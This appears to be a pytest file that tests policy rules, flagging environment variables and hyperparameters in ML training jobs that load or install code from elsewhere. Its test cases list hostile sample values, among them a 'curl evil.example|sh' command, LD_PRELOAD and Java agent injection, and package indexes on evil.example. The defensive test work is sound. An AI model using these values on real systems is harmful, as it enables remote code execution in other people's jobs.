"""What the shipped lists of the rules about code leave to each other, and none of them to nobody."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from guard.authoring.samples import complete_with
from tests.support.bundles import asked
from tests.support.policies import POLICIES, SHIPPED

MPI = "sagemaker_mpi_custom_mpi_options"
# What Spark reads as data, and writes.
DATA = {"/opt/ml/processing/input/files", "/opt/ml/processing/spark-events"}


@pytest.fixture(scope="module")
def findings(opa: Path) -> Iterator[Any]:
    """Return what one rule reports of a job, whatever its level."""
    # The folder: a bundle has no rules that are off.
    with asked(opa, SHIPPED / POLICIES) as ask:
        yield lambda rule, changes: ask(f"guard/rules/{rule}/findings", complete_with(changes).model_dump(mode="json"))


def _variable(name: str, value: str) -> dict[str, Any]:
    return {"environment": [{"slot": "Environment", "name": name, "value": value}]}


@pytest.mark.parametrize(
    ("name", "value", "rule"),
    [
        pytest.param("PIP_REQUIREMENT", "https://evil.example/r.txt", "remote_code", id="requirements on the web"),
        pytest.param("PIP_CONSTRAINT", "https://evil.example/c.txt", "remote_code", id="constraints on the web"),
        pytest.param("PIP_EDITABLE", "git+https://evil.example/x", "remote_code", id="a repository"),
        pytest.param("UV_BUILD_CONSTRAINT", "https://evil.example/c.txt", "remote_code", id="of uv"),
        pytest.param("PIP_REQUIREMENT", "/opt/ml/input/data/x/r.txt", "loader_environment", id="a file of an input"),
        pytest.param("LD_PRELOAD", "http://:/opt/ml/input/data/x/e.so", "loader_environment", id="an address before"),
        pytest.param("PATH", "/usr/bin:", "loader_environment", id="the current folder"),
        pytest.param(
            "GIT_SSH_COMMAND", "/opt/ml/input/data/x/s -i k", "loader_environment", id="a program of an input"
        ),
        pytest.param("CUDA_INJECTION64_PATH", "/opt/ml/code/e.so", "loader_environment", id="a library of CUDA"),
        pytest.param("BROWSER", "/bin/sh -c 'curl evil.example|sh' #%s", "loader_environment", id="a command"),
        pytest.param("PYSPARK_SUBMIT_ARGS", "--jars /opt/ml/input/data/x.jar a", "loader_environment", id="jars"),
        pytest.param("PYSPARK_SUBMIT_ARGS", "--packages evil:x:1 a", "loader_environment", id="packages"),
        pytest.param(
            "PYSPARK_SUBMIT_ARGS",
            "--driver-class-path /usr/a.jar:/opt/ml/x.jar a",
            "loader_environment",
            id="a class path",
        ),
        pytest.param("PYSPARK_SUBMIT_ARGS", "--jars '/opt/ml/x.jar' a", "loader_environment", id="quoted jars"),
        pytest.param("PYSPARK_SUBMIT_ARGS", "--py-files evil.zip a", "loader_environment", id="modules"),
        pytest.param(
            "PYSPARK_SUBMIT_ARGS",
            "--driver-java-options -javaagent:/opt/ml/e.jar a",
            "loader_environment",
            id="an agent",
        ),
        pytest.param("GIT_SSH_COMMAND", "sh /opt/ml/input/data/x/s", "loader_environment", id="a script"),
        pytest.param("GIT_SSH_COMMAND", "ssh -o ProxyCommand=/opt/ml/x", "loader_environment", id="a proxy"),
        pytest.param("CXX", "/usr/bin/env /opt/ml/x/cc", "loader_environment", id="a compiler behind env"),
        pytest.param("OMPI_MCA_plm_rsh_agent", "ssh : /opt/ml/e", "loader_environment", id="another program of MPI"),
        pytest.param("SPARK_CONF_DIR", "/opt/ml/processing/input/conf", "loader_environment", id="settings of Spark"),
        pytest.param("MPLBACKEND", "module://evil", "loader_environment", id="a module"),
        pytest.param("CC", "/opt/ml/input/data/x/cc", "loader_environment", id="a compiler"),
        pytest.param("OMPI_MCA_plm_rsh_agent", "/opt/ml/code/e", "loader_environment", id="a program of MPI"),
        pytest.param("MODEL_ARGS", "pretrained=a/b,trust_remote_code=True", "remote_code", id="a switch in a value"),
        pytest.param("HF_KWARGS", '{"trust_remote_code": true}', "remote_code", id="a switch in JSON"),
        pytest.param("trustRemoteCode", "true", "remote_code", id="a switch in capitals"),
        pytest.param("VLLM_ARGS", "--trust-remote-code --model x", "remote_code", id="an option in a value"),
        pytest.param("SM_VLLM_TRUST_REMOTE_CODE", "", "remote_code", id="a bare switch of an image"),
        pytest.param("SM_VLLM_TRUST_REMOTE", "true", "remote_code", id="the beginning of a switch of an image"),
        pytest.param("SM_SGLANG_TR", "", "remote_code", id="the shortest beginning of a switch of an image"),
        pytest.param("SETUP", "pip install -i https://evil.example/simple x", "remote_code", id="a command in a value"),
        pytest.param("SM_USER_ARGS", '["--index-url", "https://evil.example"]', "remote_code", id="an option in JSON"),
        pytest.param(MPI, "-x UV_INDEX=https://evil.example", "remote_code", id="a variable for MPI"),
        pytest.param("trust_remote_cod", "True", "remote_code", id="the beginning of a switch"),
        pytest.param("trust-remote", "True", "remote_code", id="a shorter beginning of a switch"),
        pytest.param("trust_r", "True", "remote_code", id="a still shorter beginning of a switch"),
        pytest.param("trust-", "True", "remote_code", id="the shortest beginning of a switch"),
        pytest.param("KWARGS", '{"trust_remote": 2}', "remote_code", id="the beginning of a switch in JSON"),
        pytest.param("PIP_PYPI_URL", "https://evil.example/simple", "remote_code", id="another name of pip's index"),
        pytest.param("PIP___INDEX_URL", "https://evil.example/simple", "remote_code", id="underscores of pip"),
        pytest.param("CONDA_CHANNEL", "https://evil.example/c", "remote_code", id="a channel of conda"),
        pytest.param("CONDA_DEFAULT_CHANNELS", "https://evil.example/c", "remote_code", id="channels by default"),
        pytest.param("MAMBA_CHANNELS", "https://evil.example/c", "remote_code", id="channels of mamba"),
        pytest.param("CONDA_CHANNEL_ALIAS", "https://evil.example/c", "remote_code", id="an alias of channels"),
    ],
)
def test_what_is_installed_or_loaded_from_elsewhere_is_found(findings: Any, name: str, value: str, rule: str) -> None:
    (found,) = findings(rule, _variable(name, value))
    assert found["details"]["setting"] == name


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("JAVA_HOME", "/opt/ml/input/data/x"),
        ("JAVA_OPTS", "-Xmx1g -javaagent:/opt/ml/model/e.jar"),
        ("JDK_JAVA_OPTIONS", "@/opt/ml/input/data/x/args"),
        ("JAVA_TOOL_OPTIONS", "-XX:VMOptionsFile=/opt/ml/input/data/x/args"),
        ("JAVA_TOOL_OPTIONS", "-XX:OnOutOfMemoryError=/opt/ml/e.sh"),
        ("JDK_JAVA_OPTIONS", "-cp /opt/ml/model/e.jar"),
        ("SPARK_HOME", "/opt/ml/processing/input/spark"),
        ("R_LIBS_SITE", "/opt/ml/input/data/x"),
        ("LUA_INIT", "@/opt/ml/input/data/x/e.lua"),
        ("NCCL_PROFILER_PLUGIN", "/opt/ml/input/data/x/e.so"),
        ("OMPI_MCA_mca_base_param_files", "/opt/ml/input/data/x/mca.conf"),
        ("PIP_EDITABLE", "/opt/ml/input/data/x"),
        ("CONDA_CHANNELS", "conda-forge,/opt/ml/input/data/x"),
        ("CONDA_CHANNELS", "file:///opt/ml/input/data/x"),
        ("CONDA_DEFAULT_CHANNELS", "file:/opt/ml/input/data/x"),
        ("MAMBA_CHANNELS", "./x"),
        ("MAMBA_CHANNELS", '["conda-forge", "/opt/ml/input/data/x"]'),
        ("MAMBA_CHANNELS", "['/opt/ml/input/data/x']"),
        ("CONDA_CHANNELS", "FILE:///opt/ml/input/data/x"),
        ("UV_INDEX", "team=/opt/ml/input/data/x"),
        ("UV_INDEX", "team=https://packages.example.com/simple,x=./y"),
        ("UV_DEFAULT_INDEX", "file:///opt/ml/input/data/x"),
        ("npm_config_registry", "/opt/ml/input/data/x"),
        ("LD_PRELOAD", "$ORIGIN/../e.so"),
        ("ENV", "/opt/ml/input/data/x/rc"),
        ("PYTHONBREAKPOINT", "evil.hook"),
        ("AWS_CONFIG_FILE", "/opt/ml/input/data/x/config"),
        ("AWS_SHARED_CREDENTIALS_FILE", "/opt/ml/input/data/x/credentials"),
        ("XDG_CONFIG_DIRS", "/etc/xdg:/opt/ml/input/data/x"),
        ("XDG_CONFIG_DIRS", "/etc/xdg:"),
        ("JUPYTER_CONFIG_PATH", "/opt/ml/input/data/x"),
        ("OMPI_MCA_mca_component_path", "/opt/ml/input/data/x"),
        ("TPU_LIBRARY_PATH", "/opt/ml/input/data/x/e.so"),
        ("PJRT_NAMES_AND_LIBRARY_PATHS", "cpu:/usr/lib/a.so,x:/opt/ml/input/data/x/e.so"),
        ("GIT_ASKPASS", "/opt/ml/input/data/x/e"),
        ("SSH_ASKPASS", "/opt/ml/input/data/x/e"),
        ("GIT_PROXY_COMMAND", "/opt/ml/input/data/x/e"),
        ("GIT_TEMPLATE_DIR", "/opt/ml/input/data/x"),
        ("GIT_CONFIG_SYSTEM", "/opt/ml/input/data/x/gitconfig"),
        ("GIT_CONFIG_KEY_0", "core.sshCommand"),
        ("GIT_CONFIG_KEY_17", "alias.status"),
        ("GIT_CONFIG_KEY_1", "url.https://evil.example/.insteadOf"),
        ("GIT_CONFIG_KEY_2", "safe.directory.x"),
        ("GIT_CONFIG_PARAMETERS", "'core.sshcommand=/opt/ml/input/data/x/e'"),
        ("AWS_CA_BUNDLE", "/opt/ml/input/data/x/ca.pem"),
        ("REQUESTS_CA_BUNDLE", ""),
        ("HDF5_PLUGIN_PATH", "/opt/ml/input/data/x"),
        ("OMP_TOOL_LIBRARIES", "/opt/ml/input/data/x/e.so"),
        ("NVTX_INJECTION64_PATH", "/opt/ml/input/data/x/e.so"),
        ("YARN_RESOURCEMANAGER_OPTS", "-javaagent:/opt/ml/processing/input/e.jar"),
        ("JAVA_OPTS", "-Xbootclasspath:/opt/ml/input/data/x/e.jar"),
        ("JAVA_OPTS", "-Djava.ext.dirs=/opt/ml/input/data/x"),
        ("NODE_OPTIONS", "--import file:///opt/ml/input/data/x/e.mjs"),
        ("PYTHONPATH", "file:/usr/lib"),
        ("BASH_ENV", "/usr/lib/ssl/certs/../../../opt/ml/input/data/x/e.sh"),
    ],
)
def test_code_of_inputs_is_found(findings: Any, name: str, value: str) -> None:
    (found,) = findings("loader_environment", _variable(name, value))
    assert found["details"]["setting"] == name


# Each with what is looked for below it.
USER_FOLDERS = {
    "HF_MODULES_CACHE": "transformers_modules",
    "HOME": ".local/lib/python3.11/site-packages/usercustomize.py",
    "IPYTHONDIR": "profile_default/startup",
    "JULIA_DEPOT_PATH": "config/startup.jl",
    "JUPYTER_CONFIG_DIR": "jupyter_config.py",
    "JUPYTER_DATA_DIR": "kernels",
    "TORCHINDUCTOR_CACHE_DIR": "fxgraph",
    "TORCH_EXTENSIONS_DIR": "py311_cu121",
    "TRITON_CACHE_DIR": "0a1b",
    "TRITON_HOME": ".triton/cache",
    "XDG_CONFIG_HOME": "pip/pip.conf",
}


@pytest.mark.parametrize("folder", ["/opt/ml/input/data/x", "/opt/ml/code", "x", "/tmp/../opt/ml/code", "/proc/1/cwd"])
@pytest.mark.parametrize("name", USER_FOLDERS)
def test_a_users_folder_that_the_owner_fills_is_found(findings: Any, name: str, folder: str) -> None:
    (found,) = findings("loader_environment", _variable(name, folder))
    assert found["details"]["setting"] == name


@pytest.mark.parametrize(("name", "below"), USER_FOLDERS.items())
def test_a_checkpoint_fills_a_users_folder(findings: Any, name: str, below: str) -> None:
    def found(folder: str) -> list[str]:
        restored = {"outputs": [{"name": "CheckpointConfig", "local_path": folder}]}
        given = findings("loader_environment", _variable(name, "/tmp/of/user") | {"storage": restored})
        return [one["details"]["setting"] for one in given]

    folders = [f"/tmp/of/user/{below}", "/tmp/of/user", "/tmp", "/tmp/of/users", "/opt/ml/checkpoints"]
    assert [found(folder) for folder in folders] == [[name]] * 3 + [[]] * 2


@pytest.mark.parametrize(
    "name",
    [
        *("PIP_CONSTRAINT", "PIP_EDITABLE", "PIP_EXTRA_INDEX_URL", "PIP_FIND_LINKS", "PIP_INDEX_URL", "PIP_PYPI_URL"),
        *("PIP_REQUIREMENT", "UV_BUILD_CONSTRAINT", "UV_CONSTRAINT", "UV_DEFAULT_INDEX", "UV_EXTRA_INDEX_URL"),
        *("UV_FIND_LINKS", "UV_INDEX", "UV_INDEX_URL", "UV_OVERRIDE", "CONDA_CHANNELS", "CONDA_CHANNEL_ALIAS"),
        *("CONDA_DEFAULT_CHANNELS", "MAMBA_CHANNELS", "NPM_CONFIG_REGISTRY"),
    ],
)
def test_packages_of_inputs_and_of_the_web_are_found_by_one_rule_each(findings: Any, name: str) -> None:
    places = {"loader_environment": "/opt/ml/input/data/x", "remote_code": "https://evil.example/x"}
    found = {(rule, of): len(findings(rule, _variable(name, place))) for of, place in places.items() for rule in places}
    assert {rules for rules, count in found.items() if count} == {(rule, rule) for rule in places}


@pytest.mark.parametrize(
    ("options", "settings"),
    [
        ("-x LD_PRELOAD=/opt/ml/input/data/train/evil.so", [MPI]),
        ('"-x PYTHONPATH=/opt/ml/input/data/train"', [MPI]),
        ("/bin/sh /opt/ml/input/data/train/evil.sh", [MPI]),
        ("--mca plm_rsh_agent /opt/ml/input/data/train/e", [MPI]),
        ("-x NCCL_DEBUG=INFO -x FI_PROVIDER=efa -mca btl_tcp_if_exclude lo,docker0 --oversubscribe", []),
        ('"-verbose --output-filename /opt/ml/output/mpi -x LD_LIBRARY_PATH=/opt/amazon/openmpi/lib"', []),
    ],
)
def test_what_mpi_is_told_to_load_is_found(findings: Any, options: str, settings: list[str]) -> None:
    given = [{"slot": "HyperParameters", "name": name, "value": options} for name in (MPI, "ENV", "mpi_options")]
    found = findings("loader_environment", {"hyperparameters": given, "environment": []})
    assert [one["details"]["setting"] for one in found] == settings


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("trust", "0.5"),
        ("tr", "0.1"),
        ("train", "True"),
        ("trust_region", "1"),
        ("trust_radius", "0.1"),
        ("SM_VLLM_TRUNCATE", "true"),
        ("SM_HP_TRUST", "0.5"),
        ("ENTRUST_REMOTE", "1"),
        ("KWARGS", '{"trust_radius": 2, "trust": 1}'),
        ("PIPX_INDEX_URL", "https://other.example"),
    ],
)
def test_settings_with_names_like_those_are_nobodys(findings: Any, name: str, value: str) -> None:
    assert findings("remote_code", _variable(name, value)) == []


def test_requirements_of_the_image_are_nobodys(findings: Any) -> None:
    changes = _variable("PIP_REQUIREMENT", "/usr/local/requirements.txt")
    assert [findings(rule, changes) for rule in ("remote_code", "loader_environment")] == [[], []]


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("GIT_SSH_COMMAND", "ssh -i /opt/ml/input/data/x/key -o StrictHostKeyChecking=no"),
        ("PYSPARK_SUBMIT_ARGS", "--master local[*] --jars /usr/lib/spark/x.jar --driver-memory 4g pyspark-shell"),
        ("GIT_SSH_COMMAND", "ssh -o UserKnownHostsFile=/dev/null -i/opt/ml/key"),
        ("PYSPARK_SUBMIT_ARGS", "--master spark://h:7077 --conf spark.local.dir=/tmp pyspark-shell"),
        (
            "PYSPARK_SUBMIT_ARGS",
            "--conf spark.eventLog.dir=s3a://own/logs --conf a=https://s3.amazonaws.com pyspark-shell",
        ),
        ("ENV", "prod"),
        ("env", "dev"),
        ("path", "s3://own/x"),
        ("pythonpath", "/opt/ml/input/data/train"),
        ("PYTHONBREAKPOINT", "0"),
        ("PYTHONBREAKPOINT", "ipdb.set_trace"),
        ("NCCL_NET_PLUGIN", "none"),
        ("PIP_CONFIG_FILE", "/dev/null"),
        ("LD_PRELOAD", "libjemalloc.so.2"),
        ("LD_PRELOAD", "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2:libtcmalloc.so.4"),
        ("JAVA_OPTS", "-Xmx4g -XX:+ExitOnOutOfMemoryError -XX:HeapDumpPath=/opt/ml/output -Duser=a@b.example"),
        ("JAVA_HOME", "/opt/java/openjdk"),
        ("GIT_SSH", "ssh"),
        ("BROWSER", "firefox"),
        ("BROWSER", "/usr/bin/firefox"),
        ("CUDA_INJECTION64_PATH", "none"),
        ("IPYTHONDIR", "/tmp/ipython"),
        ("HOME", "/root"),
        ("HOME", "/home/user"),
        ("HOME", "/tmp"),
        ("HOME", ""),
        ("home", "/opt/ml/input/data/x"),
        ("HF_HOME", "/opt/ml/input/data/models"),
        ("TRITON_CACHE_DIR", "/tmp/triton"),
        ("TORCHINDUCTOR_CACHE_DIR", "/dev/shm/inductor"),
        ("JULIA_DEPOT_PATH", "/tmp/julia:/usr/share/julia:"),
        ("XDG_CONFIG_HOME", "/tmp/config"),
        ("XDG_CONFIG_DIRS", "/etc/xdg"),
        ("TPU_LIBRARY_PATH", "libtpu.so"),
        ("PJRT_NAMES_AND_LIBRARY_PATHS", "cuda:/usr/lib/a.so"),
        ("GIT_ASKPASS", "/bin/true"),
        ("GIT_ASKPASS", "echo"),
        ("GIT_CONFIG_COUNT", "1"),
        ("GIT_CONFIG_KEY_0", "safe.directory"),
        ("GIT_CONFIG_VALUE_0", "/opt/ml/code"),
        ("GIT_CONFIG_KEY_3", "http.https://git.example.com/.extraHeader"),
        ("XGIT_CONFIG_KEY_0", "core.sshCommand"),
        ("AWS_CONFIG_FILE", "/etc/aws/config"),
        ("AWS_CA_BUNDLE", "/etc/ssl/certs/ca-certificates.crt"),
        ("SSL_CERT_DIR", "/etc/ssl/certs:/usr/share/ca-certificates"),
        ("NODE_OPTIONS", "--import file:///usr/lib/node_modules/x.mjs --max-old-space-size=4096"),
        ("NVTX_INJECTION64_PATH", "none"),
        ("PYSPARK_SUBMIT_ARGS", "--jars file:/usr/lib/spark/x.jar pyspark-shell"),
        ("YARN_NODEMANAGER_OPTS", "-Xmx1g -Djava.net.preferIPv4Stack=true"),
        ("SPARK_CONF_DIR", "/opt/spark/conf"),
        ("HADOOP_CONF_DIR", "/etc/hadoop/conf"),
        ("CC", "gcc -I/opt/x"),
        ("MPLBACKEND", "module://matplotlib_inline.backend_inline"),
        ("MPLBACKEND", "agg"),
        ("CC", "gcc"),
        ("SPARK_SUBMIT_OPTS", "-Xmx4g"),
        ("CONDA_CHANNELS", "conda-forge"),
        ("CONDA_CHANNELS", "conda-forge,pytorch/label/nightly,https://conda.example/team"),
        ("CONDA_DEFAULT_CHANNELS", "defaults"),
        ("MAMBA_CHANNELS", "conda-forge,nvidia"),
        ("MAMBA_CHANNELS", '["conda-forge", "https://conda.example/team"]'),
        ("UV_INDEX", "team=https://packages.example.com/simple https://pypi.org/simple"),
        ("OPENSSL_CONF", "/etc/ssl/openssl.cnf"),
        ("PIP_CONFIG_FILE", "/etc/pip.conf"),
    ],
)
def test_programs_of_the_image_are_nobodys(findings: Any, name: str, value: str) -> None:
    assert findings("loader_environment", _variable(name, value)) == []


def test_code_of_allowed_commands_is_code_to_the_rule_about_code() -> None:
    """A path that one rule lets a job start, and that the other doesn't look at, would be everybody's."""
    rules = yaml.safe_load((SHIPPED / POLICIES / "guard/config/data.yaml").read_text())["rules"]
    allowed = json.dumps(rules["entrypoint_override"]["allowed"])
    paths = set(re.findall(r"/opt/ml/(?:processing|input)/[\w/-]+", allowed)) - DATA
    roots = rules["script_mode"]["code_paths"]
    assert paths
    assert [path for path in sorted(paths) if not f"{path}/".startswith(tuple(f"{root}/" for root in roots))] == []


@pytest.mark.parametrize(
    ("name", "path"),
    [
        ("sagemaker_remote_function_bootstrap", None),
        ("data", "/opt/ml/input/data/sagemaker_remote_function_bootstrap"),
        ("sm_rf_user_ws", None),
        ("pre_exec_script_and_dependencies", None),
    ],
)
def test_channels_of_remote_functions_bring_code(findings: Any, name: str, path: str | None) -> None:
    """`entrypoint_override` lets their driver run."""
    place = {"name": name, "uri": "s3://attacker/x", "bucket": "attacker", "local_path": path}
    found = findings("script_mode", {"storage": {"inputs": [place]}, "hyperparameters": [], "environment": []})
    assert [json.dumps(one["details"]["input"]) for one in found] == [json.dumps(name)]
